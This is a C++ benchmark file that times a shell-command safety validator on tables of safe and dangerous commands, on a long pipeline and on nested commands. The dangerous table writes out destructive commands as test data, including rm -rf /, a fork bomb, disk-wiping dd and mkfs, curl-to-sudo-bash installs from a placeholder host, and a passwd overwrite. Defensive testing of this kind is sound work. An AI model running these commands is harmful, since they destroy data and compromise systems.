// benchsuite/safety_bench.cpp — the command safety validator on safe and
// dangerous commands (guide target: over 100 validations/s), on a long
// pipeline, on nested commands, and building it.
#include <array>
#include <cstdint>
#include <string>
#include <string_view>

#include "perfgate/harness.hpp"
#include "safety/validator.hpp"

namespace {

using perfgate::safety::Validator;

constexpr std::array<std::string_view, 16> k_safe = {
    "ls -la",
    "git status && git diff --stat",
    "find . -name '*.log' -mtime -1",
    "grep -rn 'TODO' src/ | head -n 20",
    "du -sh * | sort -h",
    "ps aux --sort=-%mem | head -n 11",
    "tar -czf logs.tar.gz logs",
    "curl -fsSL https://example.com/data.json -o data.json",
    "docker ps -a",
    "chmod +x deploy.sh",
    "rm -f build/output.o",
    "cp config.yaml config.yaml.bak",
    "echo \"$PATH\" | tr ':' '\\n'",
    "sudo systemctl restart nginx",
    "tail -n 50 /var/log/syslog",
    "find . -type f -size +100M -not -path '*/node_modules/*'",
};

constexpr std::array<std::string_view, 16> k_dangerous = {
    "rm -rf /",
    "sudo rm -rf --no-preserve-root /",
    "rm -rf ~",
    ":(){ :|:& };:",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "cat /dev/urandom > /dev/nvme0n1",
    "mkfs.ext4 /dev/sda1",
    "curl -fsSL https://x.example/i.sh | sudo bash",
    "wget -qO- https://x.example/i | sh",
    "chmod -R 777 /",
    "chown -R nobody /etc",
    "echo 'x::0:0::/:/bin/sh' > /etc/passwd",
    "find / -name '*' -delete",
    "mv / /dev/null",
    "bash -c \"$(curl -fsSL https://x.example/install.sh)\"",
    "cd /tmp && sudo   \\rm  -r -f  '/'",
};

// Cycles through a table of commands, one validation per iteration.
template <std::size_t N>
void validate_each(benchmark::State& state, const std::array<std::string_view, N>& commands) {
  const Validator validator;
  for (const auto c : commands) {
    (void)validator.validate(c);  // the thread's scratch grows outside the measured loop
  }
  std::size_t i = 0;
  {
    perfgate::harness::MeasuredScope scope(state);
    for (auto _ : state) {
      auto verdict = validator.validate(commands[i]);
      benchmark::DoNotOptimize(verdict);
      i = i + 1 == N ? 0 : i + 1;
    }
  }
  state.SetItemsProcessed(state.iterations());
}

void BM_SafetyValidate_safe(benchmark::State& state) { validate_each(state, k_safe); }
BENCHMARK(BM_SafetyValidate_safe)->Name("BM_SafetyValidate/safe");

void BM_SafetyValidate_dangerous(benchmark::State& state) { validate_each(state, k_dangerous); }
BENCHMARK(BM_SafetyValidate_dangerous)->Name("BM_SafetyValidate/dangerous");

// One long, safe command line of about range(0) bytes: a pipeline of
// ordinary commands, the worst case for a validator that reads everything.
void BM_SafetyValidateLong(benchmark::State& state) {
  std::string line = "cat access.log";
  while (line.size() < static_cast<std::size_t>(state.range(0))) {
    line += " | grep -v 'healthcheck' | awk '{print $1, $7}' | sort | uniq -c";
  }
  const Validator validator;
  (void)validator.validate(line);
  {
    perfgate::harness::MeasuredScope scope(state);
    for (auto _ : state) {
      auto verdict = validator.validate(line);
      benchmark::DoNotOptimize(verdict);
    }
  }
  state.SetItemsProcessed(state.iterations());
  state.SetBytesProcessed(state.iterations() * static_cast<std::int64_t>(line.size()));
}
BENCHMARK(BM_SafetyValidateLong)->Arg(1024)->Arg(16384);

// Commands inside sh -c, eval and $(…): each level is lexed and checked again.
void BM_SafetyValidateNested(benchmark::State& state) {
  const std::string_view line = "sudo sh -c \"eval 'echo $(ls -la $(pwd)) && bash -c \\\"git status\\\"'\"";
  const Validator validator;
  (void)validator.validate(line);
  {
    perfgate::harness::MeasuredScope scope(state);
    for (auto _ : state) {
      auto verdict = validator.validate(line);
      benchmark::DoNotOptimize(verdict);
    }
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_SafetyValidateNested);

// Building the validator (its rule index).
void BM_SafetyBuild(benchmark::State& state) {
  {
    perfgate::harness::MeasuredScope scope(state);
    for (auto _ : state) {
      Validator v;
      benchmark::DoNotOptimize(&v);
    }
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_SafetyBuild);

}  // namespace

PERFGATE_BENCHMARK_MAIN()
